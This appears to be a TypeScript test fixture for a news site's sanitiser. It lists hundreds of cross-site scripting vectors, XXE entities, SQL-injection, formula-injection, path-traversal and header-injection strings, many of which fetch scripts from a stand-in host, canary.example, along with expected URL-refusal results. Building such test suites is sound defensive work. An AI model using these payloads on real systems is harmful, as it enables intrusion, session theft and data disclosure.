// Texts and addresses that mean harm, as they are known from the wild: what is tried wherever people
// write something that others are shown. A script that ran would call `xss`, and whatever else acted
// would ask `canary.example` for something.

/** The host that nobody may be made to ask. */
export const CANARY = 'canary.example'

/** Vectors by what they try, one a line; `\u0009` stands for the character. */
const MARKUP = {
  'scripts in every disguise': String.raw`
<script>xss()</script>
<SCRIPT>xss()</SCRIPT>
<ScRiPt type="text/javascript">xss()</sCrIpT>
<script src="https://canary.example/x.js"></script>
<script src=//canary.example/x.js></script>
<script/src=//canary.example/x.js></script>
<script\u0009>xss()</script\u0009>
<script\u000a>xss()</script\u000a>
<script\u000c>xss()</script>
<script\u0000>xss()</script>
<scr\u0000ipt>xss()</scr\u0000ipt>
<\u0000script>xss()</script>
<script>xss()</script foo="bar">
<script>xss()</script/>
<script>xss()
<script>xss()//<!--</script>-->
<script><!--<script></script>xss()</script>
<<script>xss();//<</script>
<scr<script>ipt>xss()</scr</script>ipt>
<script type="module">import "https://canary.example/x.js"</script>
<script type="importmap">{"imports":{"x":"https://canary.example/x.js"}}</script>
<script type="speculationrules">{"prefetch":[{"urls":["https://canary.example/"]}]}</script>
<script nomodule async defer>xss()</script>
<script>xss\u0060\u0060</script>
<script xmlns="http://www.w3.org/1999/xhtml">xss()</script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">xss()</x:script>
&lt;script&gt;xss()&lt;/script&gt;
&#60;script&#62;xss()&#60;/script&#62;
&#x3C;script&#x3E;xss()&#x3C;/script&#x3E;
&#x0003cscript&#x0003exss()&#x0003c/script&#x0003e
&lt&gt;&ltscript&gtxss()&lt/script&gt
&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;
%3Cscript%3Exss()%3C/script%3E
\u005cu003cscript\u005cu003exss()\u005cu003c/script\u005cu003e
\uff1cscript\uff1exss()\uff1c/script\uff1e
+ADw-script+AD4-xss()+ADw-/script+AD4-
"><script>xss()</script>
'><script>xss()</script>
</title><script>xss()</script>
</textarea><script>xss()</script>
</style><script>xss()</script>
</div></article></main><script>xss()</script>
\u2028<script>\u2028xss()\u2029</script>`,

  'event handlers': String.raw`
<img src=x onerror=xss()>
<img src=x onerror="xss()"//
<img src=x oNeRrOr=xss()>
<img src=x onerror\u0009=\u0009xss()>
<img src=x onerror\u000a=\u000a'xss()'>
<img src=x \u000conerror=xss()>
<img src=x/onerror=xss()>
<img/src="x"/onerror="xss()">
<img src=x on\u0000error=xss()>
<img src=x onerror\u0000=xss()>
<img src=x \u0000onerror=xss()>
<img src=x onerror=\u0060xss()\u0060>
<img src=\u0060x\u0060 onerror=xss()>
<img src="x" alt="\u0060\u0060onerror=xss()">
<img src=x onerror=&#120;&#115;&#115;&#40;&#41;>
<img src=x onerror=\u0026#x78;ss()>
<img src=x onerror=eval(atob('eHNzKCk='))>
<img src=x onerror=xss() onerror=1>
<img src=x alt="" onerror="xss()" title="
<img src=x:x onerror=xss()>
<img """><b onmouseover="xss()">">
<body onload=xss()>
<body onpageshow=xss()>
<body onhashchange=xss()><a href=#x>x</a>
<html onmouseenter=xss()>
<p onmouseover=xss() onpointerenter=xss() onfocus=xss() tabindex=1>x</p>
<p autofocus tabindex=0 onfocus=xss()>x</p>
<p contenteditable autofocus onfocus=xss()>x</p>
<b style="animation-name:x" onanimationstart="xss()">x</b>
<b style="transition:color 1s" ontransitionend=xss()>x</b>
<details open ontoggle=xss()><summary>x</summary>y</details>
<details ontoggle=xss() open=open>x</details>
<video src=x onerror=xss()></video>
<video><source onerror=xss()></video>
<video autoplay onloadstart=xss() src=x></video>
<audio src=x onerror=xss()>
<audio controls autoplay oncanplay=xss() onloadstart=xss() src=x></audio>
<video poster=x onloadeddata=xss()><track onload=xss() src=x default></video>
<marquee onstart=xss()>x</marquee>
<marquee loop=1 width=0 onfinish=xss()>x</marquee>
<p onbeforetoggle=xss() popover id=p>x</p><button popovertarget=p>y</button>
<p oncontentvisibilityautostatechange=xss() style="content-visibility:auto">x</p>
<p onscrollend=xss() onscrollsnapchange=xss()>x</p>
<a href=x onclick=xss() onauxclick=xss()>x</a>
<p x=">" onclick=xss()>x</p>
<p x='"' onclick=xss() y='"'>x</p>
<p x="a"onclick=xss()>x</p>
<p =onclick=xss()>x</p>
<p/onclick/=/xss()>x</p>
<p \uff4fnclick=xss() onclic\u212a=xss()>x</p>
" onmouseover="xss()" x="
' onmouseover='xss()' x='
" autofocus onfocus=xss() "
\u0060 onmouseover=xss() \u0060`,

  'addresses that act': String.raw`
<a href="javascript:xss()">x</a>
<a href=javascript:xss()>x</a>
<a href="JaVaScRiPt:xss()">x</a>
<a href=" javascript:xss()">x</a>
<a href="\u0001javascript:xss()">x</a>
<a href="\u0000javascript:xss()">x</a>
<a href="java\u0009script:xss()">x</a>
<a href="java\u000ascript:xss()">x</a>
<a href="java\u000dscript:xss()">x</a>
<a href="java\u0000script:xss()">x</a>
<a href="java\u200bscript:xss()">x</a>
<a href="java\u00adscript:xss()">x</a>
<a href="\u200fjavascript:xss()">x</a>
<a href="\u202ejavascript:xss()">x</a>
<a href="\ufeffjavascript:xss()">x</a>
<a href="\u3000javascript:xss()">x</a>
<a href="java&Tab;script:xss()">x</a>
<a href="java&NewLine;script&colon;xss&lpar;&rpar;">x</a>
<a href="&#106;avascript:xss()">x</a>
<a href="&#x6A&#x61&#x76&#x61script:xss()">x</a>
<a href="&#0000106&#0000097vascript:xss()">x</a>
<a href="&#1;javascript:xss()">x</a>
<a href="&#0;javascript:xss()">x</a>
<a href="javascript&#58;xss()">x</a>
<a href="javascript&colon;xss()">x</a>
<a href="javascript&amp;colon;xss()">x</a>
<a href="javascript%3Axss()">x</a>
<a href="javascript://news.example/%0Axss()">x</a>
<a href="javascript://https://news.example/%0d%0axss()">x</a>
<a href="javascript:/*https://news.example*/xss()">x</a>
<a href="\uff4aavascript:xss()">x</a>
<a href="javascript\uff1axss()">x</a>
<a href="data:text/html,<script>xss()</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==">x</a>
<a href="data:image/svg+xml,<svg onload=xss() xmlns='http://www.w3.org/2000/svg'/>">x</a>
<a href="DATA:,x">x</a>
<a href="vbscript:xss()">x</a>
<a href="livescript:xss()">x</a>
<a href="mocha:xss()">x</a>
<a href="feed:javascript:xss()">x</a>
<a href="view-source:https://canary.example/">x</a>
<a href="jar:https://canary.example/x.jar!/x">x</a>
<a href="blob:https://canary.example/1">x</a>
<a href="filesystem:https://canary.example/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="intent://x#Intent;scheme=javascript;end">x</a>
<a href="ms-msdt:/id x">x</a>
<a href="x" href="javascript:xss()">x</a>
<a href="javascript:xss()" href="x">x</a>
<img src="javascript:xss()">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InhzcygpIi8+">
<img dynsrc="javascript:xss()" lowsrc="javascript:xss()">
<blockquote cite="javascript:xss()">x</blockquote>
<q cite="data:text/html,x">x</q>
<video poster="javascript:xss()" src="data:video/mp4,x"></video>
<track src="javascript:xss()"><source src="javascript:xss()">
<a ping="https://canary.example/" href="x">x</a>
<a href="x" target="_top" rel="opener">x</a>
<a href="https://news.example@canary.example/">x</a>
<a href="//canary.example\u005c@news.example/">x</a>
<a href="https://\u0430pple.example/">x</a>
<a href="https://xn--80ak6aa92e.example/">apple.example</a>
<a href="https://news.example\u3002canary.example/">x</a>
<a href="https://news.example\u2044canary.example/">x</a>
<a href="https://news.example/\u202egpj.exe">x</a>
<area href="javascript:xss()"><map name=m><area href="javascript:xss()"></map>`,

  'pictures with several sources': String.raw`
<img srcset="https://canary.example/x 1x, javascript:xss() 2x">
<img src=x srcset="//canary.example/x 2x" sizes="100vw">
<picture><source srcset="https://canary.example/x"><img src=x onerror=xss()></picture>
<img src=x imagesrcset="https://canary.example/x">
<link rel=preload as=image imagesrcset="https://canary.example/x">
<img src=x longdesc="javascript:xss()" usemap="#m" ismap>
<image src=x onerror=xss()>
<input type=image src="https://canary.example/x" onerror=xss()>
<table background="https://canary.example/x"><tr><td background="javascript:xss()">x</td></tr></table>
<body background="https://canary.example/x">x</body>
<img src=x crossorigin=use-credentials referrerpolicy=unsafe-url attributionsrc="https://canary.example/">
<video><source srcset="https://canary.example/x"></video>`,

  'svg and its links': String.raw`
<svg onload=xss()>
<svg/onload=xss()>
<svg\u000aonload=xss()//
<svg><script>xss()</script></svg>
<svg><script href="https://canary.example/x.js" /></svg>
<svg><script xlink:href="data:text/javascript,xss()" /></svg>
<svg><script>&#120;ss()</script></svg>
<svg><a xlink:href="javascript:xss()"><text x=9 y=9>x</text></a></svg>
<svg><a href="javascript:xss()"><circle r=99 /></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='xss()'/>#x" /></svg>
<svg><use xlink:href="https://canary.example/x.svg#x" /></svg>
<svg><image href="https://canary.example/x" onerror=xss() /></svg>
<svg><feImage href="https://canary.example/x" /></svg>
<svg><foreignObject><iframe src="javascript:xss()"></iframe></foreignObject></svg>
<svg><foreignobject><img src=x onerror=xss()></foreignobject></svg>
<svg><desc><img src=x onerror=xss()></desc></svg>
<svg><title><img src=x onerror=xss()></title></svg>
<svg><style>@import "https://canary.example/x.css"</style></svg>
<svg><style><img src=x onerror=xss()></style></svg>
<svg><p><style><!--</style><img src=x onerror=xss()>--></svg>
<svg><set attributeName="onmouseover" to="xss()" /></svg>
<svg><animate onbegin=xss() attributeName=x dur=1s /></svg>
<svg><a><animate attributeName=href values=javascript:xss() /><text x=9 y=9>x</text></a></svg>
<svg><animate href=#x attributeName=href values="javascript:xss()" /><a id=x>x</a></svg>
<svg><animateMotion onend=xss() dur=1s /><animateTransform onrepeat=xss() /></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">xss()</handler></svg>
<svg><discard onbegin=xss() /></svg>
<svg><![CDATA[><img src=x onerror=xss()>]]></svg>
<svg></p><img src=x onerror=xss()>
<svg><br><img src=x onerror=xss()>
<set attributeName=innerHTML to="<img src=x onerror=xss()>">
<?xml-stylesheet href="javascript:xss()"?><svg xmlns="http://www.w3.org/2000/svg" onload="xss()"/>`,

  'MathML and its links': String.raw`
<math href="javascript:xss()">x</math>
<math><mi xlink:href="javascript:xss()">x</mi></math>
<math><mi//xlink:href="data:text/html,<script>xss()</script>">x</math>
<math><maction actiontype="statusline#https://canary.example/" xlink:href="javascript:xss()">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=xss()></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><script>xss()</script></annotation-xml></math>
<math><annotation-xml><svg><script>xss()</script></svg></annotation-xml></math>
<math><semantics><annotation><img src=x onerror=xss()></annotation></semantics></math>
<math><mtext><script>xss()</script></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=xss()">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>
<math><mtext></p><style><!--</style><a title="--><img src=x onerror=xss()>">
<math><style><img src=x onerror=xss()></style></math>`,

  'markup that is read twice in two ways': String.raw`
<noscript><p title="</noscript><img src=x onerror=xss()>"></noscript>
<noscript><style></noscript><img src=x onerror=xss()>
<style><a title="</style><img src=x onerror=xss()>">
<style><style/><img src=x onerror=xss()>
<textarea><a title="</textarea><img src=x onerror=xss()>"></textarea>
<title><a id="</title><img src=x onerror=xss()>"></title>
<xmp><p title="</xmp><img src=x onerror=xss()>"></xmp>
<iframe><p title="</iframe><img src=x onerror=xss()>"></iframe>
<noembed><p title="</noembed><img src=x onerror=xss()>"></noembed>
<noframes><p title="</noframes><img src=x onerror=xss()>"></noframes>
<plaintext><img src=x onerror=xss()>
<listing>&lt;img src=x onerror=xss()&gt;</listing>
<template><img src=x onerror=xss()></template>
<template><s><template><s><img src=x onerror=xss()>x</s></template></s></template>
<template shadowrootmode=open><img src=x onerror=xss()></template>
<table><img src=x onerror=xss()></table>
<table><tr><td><style></table><img src=x onerror=xss()></style>
<table><caption><svg><style></table><img src=x onerror=xss()></style></svg></caption></table>
<select><option><style></option></select><img src=x onerror=xss()></style>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=xss()>">
<select><iframe></select><img src=x onerror=xss()></iframe>
<svg></p><style><a id="</style><img src=1 onerror=xss()>">
<svg><style>&lt;/style&gt;&lt;img src=x onerror=xss()&gt;</style></svg>
<a title="<noscript><img src=x onerror=xss()></noscript>">x</a>
<p title="</p><img src=x onerror=xss()>">x</p>
<p title='"><img src=x onerror=xss()>'>x</p>
<img alt="<x" title="/><img src=x onerror=xss()>">
<img alt="\u0060><img src=x onerror=xss()>">
<a title="&quot;><img src=x onerror=xss()>">x</a>
<a title="&amp;quot;&gt;&lt;img src=x onerror=xss()&gt;">x</a>
<p><p><form><form><b></p><a><a href=javascript:xss()>x</a></b>
<a><table><td></a><a href=javascript:xss()>x
<b><p><i></b><script>xss()</script></i>
<head><base href="//canary.example/"></head><body><a href=x>x</a>
<frameset onload=xss()><frame src="javascript:xss()"></frameset>
<isindex type=image src=x onerror=xss()>
<keygen autofocus onfocus=xss()>
<p xmlns:x="javascript:xss()" x:onclick=xss()>x</p>
<dfn title="--><img src=x onerror=xss()>">x</dfn>
<pre>\u000a\u000a<img src=x onerror=xss()></pre>`,

  'documents in documents': String.raw`
<iframe src="javascript:xss()"></iframe>
<iframe src="https://canary.example/"></iframe>
<iframe src="data:text/html,<script>parent.xss()</script>"></iframe>
<iframe srcdoc="<script>parent.xss()</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.xss()&gt;" src="https://www.youtube.com/embed/x"></iframe>
<iframe src="https://www.youtube.com.canary.example/embed/x"></iframe>
<iframe src="https://www.youtube.com@canary.example/embed/x"></iframe>
<iframe src="//canary.example\u005cwww.youtube.com/embed/x"></iframe>
<iframe src="https://canary.example/#www.youtube.com/"></iframe>
<iframe src="https://www.youtube.com:8443@canary.example/"></iframe>
<iframe onload=xss() src="https://canary.example/"></iframe>
<iframe name="xss" src="x"></iframe>
<iframe/src="about:blank"/onload=xss()>
<iframe srcdoc=x sandbox="allow-scripts allow-same-origin"></iframe>
<frame src="https://canary.example/">
<object data="javascript:xss()"></object>
<object data="https://canary.example/x.swf" type="application/x-shockwave-flash"></object>
<object data="data:text/html,<script>xss()</script>"><embed src="https://canary.example/x"></object>
<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name=DataURL value="//canary.example/"></object>
<embed src="javascript:xss()">
<embed src="https://canary.example/x.svg" allowscriptaccess=always>
<applet code="https://canary.example/x.class"></applet>
<portal src="https://canary.example/"></portal>
<fencedframe src="https://canary.example/"></fencedframe>
<base href="https://canary.example/"><img src=x>
<base href="javascript:xss()//"><a href=x>x</a>
<base target="_top">
<meta http-equiv="refresh" content="0;url=javascript:xss()">
<meta http-equiv=refresh content="0; url=https://canary.example/">
<META HTTP-EQUIV="Set-Cookie" CONTENT="x=y">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<meta charset="utf-7">+ADw-script+AD4-xss()+ADw-/script+AD4-
<meta name="referrer" content="unsafe-url">
<link rel=stylesheet href="https://canary.example/x.css">
<link rel="prefetch dns-prefetch preconnect" href="https://canary.example/">
<link rel=import href="https://canary.example/x">
<link rel=manifest href="//canary.example/x">
<bgsound src="javascript:xss()">
<layer src="https://canary.example/x.js"></layer>
<ilayer src="https://canary.example/x.js"></ilayer>
<xml src="https://canary.example/x.xml" id=x></xml><span datasrc=#x datafld=y dataformatas=html></span>
<!DOCTYPE html><html><head><script>xss()</script></head><body onload=xss()>x</body></html>`,

  forms: String.raw`
<form action="javascript:xss()"><input type=submit></form>
<form action="https://canary.example/"><input name=password type=password autofocus><button>x</button></form>
<form id=f></form><button form=f formaction="javascript:xss()">x</button>
<button formaction="javascript:xss()">x</button>
<input type=submit formaction="javascript:xss()">
<input onfocus=xss() autofocus>
<input type="text" value="x" onblur=xss() autofocus><input autofocus>
<textarea onfocus=xss() autofocus>x</textarea>
<select onfocus=xss() autofocus><option>x</select>
<form><input name=action><input name=submit></form>
<isindex action="javascript:xss()">
<fieldset><legend onclick=xss()>x</legend></fieldset>
<label for=q onclick=xss()>x</label>
<dialog open onclose=xss()><form method=dialog><button>x</button></form></dialog>
<button commandfor=x command=show-modal>x</button><dialog id=x>y</dialog>
<input type=hidden oncontentvisibilityautostatechange=xss() style=content-visibility:auto>
<search onclick=xss()><input list=l><datalist id=l><option value=x></datalist></search>`,

  'style sheets': String.raw`
<style>@import "https://canary.example/x.css";</style>
<style>*{background:url(https://canary.example/x)}</style>
<style>@font-face{font-family:x;src:url(//canary.example/x)}*{font-family:x}</style>
<style>input[value^=a]{background:url(//canary.example/a)}</style>
<STYLE>li{list-style-image:url("javascript:xss()")}</STYLE><ul><li>x</ul>
<p style="background:url(https://canary.example/x)">x</p>
<p style="background-image:url(javascript:xss())">x</p>
<p style="width:expression(xss())">x</p>
<p style="width:exp/**/ression(xss())">x</p>
<p style="width:\u005c65xpression(xss())">x</p>
<p style="-moz-binding:url(https://canary.example/x.xml#x)">x</p>
<p style="behavior:url(https://canary.example/x.htc)">x</p>
<p style="position:fixed;inset:0;z-index:9999;background:#fff">x</p>
<p style="cursor:url(https://canary.example/x),auto">x</p>
<p style="background:\u005c75 rl(https://canary.example/x)">x</p>
<p style="background:image-set('https://canary.example/x' 1x)">x</p>
<p style='content:"</style><script>xss()</script>"'>x</p>
<p STYLE = "x:expre&#115;sion(xss())">x</p>
<p style="x:\u0000expression(xss())">x</p>
<style><!-- </style><script>xss()</script> --></style>
<link rel="stylesheet" href="javascript:xss()">
<font style="font-family:'x;background:url(//canary.example/)'" color="red">x</font>`,

  'what breaks out of XML': String.raw`
]]><script>xss()</script>
]]>]]>]]&gt;<![CDATA[<script>xss()</script>
<![CDATA[<script>xss()</script>]]>
<![CDATA[x]]]]><![CDATA[><script>xss()</script>]]>
x]]></content:encoded></item><item><title>xss</title></item><![CDATA[
]]]]]]>
</description><script>xss()</script><description>
</title></item></channel></rss>
</content></entry></feed>
<?xml version="1.0"?><x/>
<?php xss() ?>
<?xml-stylesheet type="text/xsl" href="https://canary.example/x.xsl"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
<!DOCTYPE x [<!ENTITY % e SYSTEM "https://canary.example/x.dtd"> %e;]>
<!ENTITY a "&b;&b;"><!ENTITY b "&a;&a;">&a;
&xxe; &lol9; &unknown; &#0; &#8; &#xFFFE; &#xD800; &#x110000; &#-1; &
&quot;&gt;&lt;script&gt;xss()&lt;/script&gt;
<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="https://canary.example/x" />
<xsl:value-of xmlns:xsl="http://www.w3.org/1999/XSL/Transform" select="document('https://canary.example/')" />
<x xmlns="http://www.w3.org/1999/xhtml"><script>xss()</script></x>
<atom:link xmlns:atom="http://www.w3.org/2005/Atom" href="javascript:xss()" />
<media:content url="javascript:xss()" /><enclosure url="javascript:xss()" />
\u0000\u0008\u000b\u000c\u001b[31m<script>xss()</script>
\ud800<script>xss()</script>\udc00
\ufffe\uffff<script>xss()</script>
</script><script>xss()</script>
{"items":[]}</script><!--
\u005c"}],"x":"<script>xss()</script>
\u2028\u2029\u0085</script><script>xss()</script>`,

  'names that hide the document': String.raw`
<img name=body src=x><img id=head src=x>
<img name=getElementById><img name=createElement>
<a id=location href="javascript:xss()">x</a>
<a id=defaultView></a><a id=defaultView name=x href="javascript:xss()">x</a>
<form id=document><input name=cookie></form>
<form name=x><input id=attributes><input id=parentNode></form>
<iframe name=top></iframe><iframe name=self></iframe>
<p id=__proto__ class=constructor>x</p>
<p id=main>x</p><p id=q>y</p><p id=results>z</p>
<p data-copy=x data-status role=search class=skip>x</p>
<p slot=x part=y is=khulasa-headlines>x</p>
<khulasa-headlines src="https://canary.example/feed.json"></khulasa-headlines>
<object id=x><object id=x name=y></object></object>
<a name=xss href=x>x</a><img id=xss src=x>`,

  'comments and what is left open': String.raw`
<!--><script>xss()</script>-->
<!---><script>xss()</script>-->
<!-- --!><script>xss()</script>-->
<!--!><script>xss()</script>-->
<!--x--!<script>xss()</script>-->
<!--<!--><script>xss()</script>-->
<!-- x -- ><img src=x onerror=xss()> -->
<!--[if gte IE 4]><script>xss()</script><![endif]-->
<![if !IE]><script>xss()</script><![endif]>
<!><script>xss()</script>
<!x><script>xss()</script>
</><script>xss()</script>
</ x><script>xss()</script>
</p onclick=xss()><img src=x onerror=xss()>
<?><script>xss()</script>
<? x="<script>xss()</script>
<%<script>xss()</script>%>
<comment><img src=x onerror=xss()></comment>
<!--<img src="--><img src=x onerror=xss()//">
<a href="javascript:xss()
<a href='javascript:xss()
<img src="x" onerror="xss()
<img src=x onerror=xss() <p>x
<img src='https://canary.example/?x=
<p title="x
<p title=x<script>xss()</script>
<b><i><u><a><table><tr><td><script>xss()
<script src=//canary.example/x.js <p>x</p>
<iframe src=//canary.example <
<svg onload=xss() <
<
<a
</
<!
<!-
<!--
<![CDATA[
&
&#
&#x`,

  'invisible and turned round': String.raw`
<scr\u200bipt>xss()</scr\u200bipt>
<\u200bscript>xss()</script>
<\u202escript>xss()</script>
<script\u202e>xss()</script\u202c>
<script\u00a0>xss()</script>
<script\u3000src=//canary.example/x.js></script>
<img src=x\u00a0onerror=xss()>
<img src=x\u2003onerror=xss()>
<img src=x \u200donerror=xss()>
<img src=x onerror\u200b=xss()>
<img src=x \u202eonerror=xss()>
\u202e>tpircs/<)(ssx>tpircs<
\u2067<script>xss()</script>
\u2069\u2069<b onclick=xss()>x</b>\u2066
\u202d\u202a\u202bخبر\u202c<script>xss()</script>
<a href="https://news.example/">https://\u202ecanary.example/</a>
<b\u0000 onclick=xss()>x</b>
<\u0131mg src=x onerror=xss()>
<\u017fcript>xss()</\u017fcript>
<im\ufe00g src=x onerror=xss()>
\ufe64script\ufe65xss()\ufe64/script\ufe65
\u2039script\u203axss()\u2039/script\u203a
\u226escript>xss()</script>
<\u0338script>xss()</script>
<script>\u0338xss()</script>
خبر\u0640<script>xss()</script>\ufefc
<bdo dir=rtl>)(ssx</bdo><bdi onclick=xss()>x</bdi>
<p dir="rtl\u0022 onclick=\u0022xss()">x</p>
<p lang="ar&quot; onclick=&quot;xss()">x</p>
\u{e0001}\u{e003c}<script>xss()</script>`,

  'templates and formulas of other programs': String.raw`
{{constructor.constructor('xss()')()}}
\u0024{xss()}
#{xss()} <%= xss() %> {% x %}
=HYPERLINK("https://canary.example/","x")
@SUM(1+1)*cmd|' /C calc'!A0
javascript:xss()//x
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+xss()//'>
[x](javascript:xss())
![x](https://canary.example/x"onerror="xss())
<https://canary.example/>
'; DROP TABLE articles; --
' UNION SELECT token FROM tokens --
../../../../etc/passwd
%0d%0aSet-Cookie: x=y
x\u000d\u000aLocation: https://canary.example/`,
} satisfies Record<string, string>

function vectorsOf(lines: string): string[] {
  return lines
    .split('\n')
    .filter((line) => line !== '')
    .map((line) =>
      line
        .replace(/\\u\{([0-9a-f]+)\}/g, (_, code: string) =>
          String.fromCodePoint(Number.parseInt(code, 16)),
        )
        .replace(/\\u([0-9a-f]{4})/g, (_, code: string) =>
          String.fromCharCode(Number.parseInt(code, 16)),
        ),
    )
}

/** Vectors by what they try: of HTML, and of all that is shown as a text. */
export const VECTORS: [what: string, vectors: string[]][] = Object.entries(MARKUP).map(
  ([what, lines]) => [what, vectorsOf(lines)],
)

/** Whether a vector cannot be the identity of an article: that is refused, and says why. */
export function isRefusedAsId(vector: string): boolean {
  // oxlint-disable-next-line no-control-regex -- control characters are what it looks for
  return /[\u0000-\u001f\u007f-\u009f\ufffe\uffff]|\p{Surrogate}|^\s|\s$/u.test(vector)
}

/**
 * Addresses, and what becomes of one that is given relative to `https://www.news.example/`: the
 * address that goes out, or `refused` with 422.
 */
export const ADDRESSES: [given: string, becomes: string][] = [
  ['javascript:xss()', 'refused'],
  ['JaVaScRiPt:xss()', 'refused'],
  ['  javascript:xss()', 'refused'],
  ['java\tscript:xss()', 'refused'],
  ['java\nscript:xss()', 'refused'],
  ['java\r\nscript:xss()', 'refused'],
  ['\u0000javascript:xss()', 'refused'],
  ['\u0001javascript:xss()', 'refused'],
  ['\u001fjavascript:xss()', 'refused'],
  ['\u00a0javascript:xss()', 'refused'],
  ['\ufeffjavascript:xss()', 'refused'],
  ['\u200fjavascript:xss()', 'refused'],
  ['\u202ejavascript:xss()', 'refused'],
  ['java\u202escript:xss()', 'refused'],
  ['javascript://news.example/%0Axss()', 'refused'],
  ['data:text/html,<script>xss()</script>', 'refused'],
  ['data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InhzcygpIi8+', 'refused'],
  ['DATA:,x', 'refused'],
  ['vbscript:xss()', 'refused'],
  ['vb\tscript:xss()', 'refused'],
  ['livescript:xss()', 'refused'],
  ['feed:javascript:xss()', 'refused'],
  ['feed:https://canary.example/', 'refused'],
  ['view-source:javascript:xss()', 'refused'],
  ['jar:https://canary.example/x.jar!/', 'refused'],
  ['blob:https://news.example/1', 'refused'],
  ['filesystem:https://news.example/x', 'refused'],
  ['file:///etc/passwd', 'refused'],
  ['ftp://news.example/x', 'refused'],
  ['ws://news.example/x', 'refused'],
  ['about:blank', 'refused'],
  ['chrome://settings', 'refused'],
  ['mailto:desk@news.example', 'refused'],
  ['tel:+212522123456', 'refused'],
  ['ms-msdt:/id', 'refused'],
  ['intent://x#Intent;scheme=javascript;end', 'refused'],
  ['https://', 'refused'],
  ['http://[', 'refused'],
  ['https://news.example:99999/', 'refused'],
  ['https://user:password@news.example/', 'refused'],
  ['https://news.example@canary.example/', 'refused'],
  ['https://news.example%00.canary.example/', 'refused'],
  ['https://news.example\uff0fcanary.example/', 'refused'],
  ['', 'refused'],
  [' \t\u200f', 'refused'],
  // Not an address of another kind: a path that looks like one.
  ['javascript&colon;xss()', 'https://www.news.example/javascript&colon;xss()'],
  ['javascript%3Axss()', 'https://www.news.example/javascript%3Axss()'],
  ['\uff4aavascript:xss()', 'https://www.news.example/%EF%BD%8Aavascript:xss()'],
  ['javascript\uff1axss()', 'https://www.news.example/javascript%EF%BC%9Axss()'],
  ['/javascript:xss()', 'https://www.news.example/javascript:xss()'],
  ['?javascript:xss()', 'https://www.news.example/?javascript:xss()'],
  ['../../../etc/passwd', 'https://www.news.example/etc/passwd'],
  // Where they lead, they say.
  ['//canary.example/x', 'https://canary.example/x'],
  ['\\\\canary.example\\x', 'https://canary.example/x'],
  ['https:\\\\canary.example', 'https://canary.example/'],
  ['https:canary.example', 'https://www.news.example/canary.example'],
  ['/\\canary.example/', 'https://canary.example/'],
  ['//canary.example\\@news.example/', 'https://canary.example/@news.example/'],
  ['https://\u0430pple.example/', 'https://xn--pple-43d.example/'],
  ['https://news.example\u3002canary.example/', 'https://news.example.canary.example/'],
  ['https://news\u00ad.example/', 'https://news.example/'],
  ['https://1.1/', 'https://1.0.0.1/'],
  ['https://0x7f.1/', 'https://127.0.0.1/'],
  // Nothing of it ends an attribute, an element or a section.
  ['https://news.example/"onclick="xss()', 'https://news.example/%22onclick=%22xss()'],
  ["https://news.example/'onclick='xss()", "https://news.example/'onclick='xss()"],
  [
    'https://news.example/?"><script>xss()</script>',
    'https://news.example/?%22%3E%3Cscript%3Exss()%3C/script%3E',
  ],
  [
    'https://news.example/#"><svg onload=xss()>',
    'https://news.example/#%22%3E%3Csvg%20onload=xss()%3E',
  ],
  ['https://news.example/]]><script>', 'https://news.example/%5D%5D%3E%3Cscript%3E'],
  ['https://news.example/`|{}^', 'https://news.example/%60%7C%7B%7D%5E'],
  ['https://news.example/a b\u00a0c', 'https://news.example/a%20b%C2%A0c'],
  ['https://news.example/\u202egpj.exe', 'https://news.example/gpj.exe'],
  ['https://news.example/%0d%0aSet-Cookie:x', 'https://news.example/%0d%0aSet-Cookie:x'],
  ['https://news.example/\r\nSet-Cookie:x', 'https://news.example/Set-Cookie:x'],
  ['https://news.example/%ff%00%', 'https://news.example/%ff%00%25'],
  ['https://news.example/\ud800', 'https://news.example/%EF%BF%BD'],
  ['https://news.example/خبر', 'https://news.example/%D8%AE%D8%A8%D8%B1'],
]

/** How many there are in all. */
export const VECTOR_COUNT =
  VECTORS.reduce((sum, [, vectors]) => sum + vectors.length, 0) + ADDRESSES.length
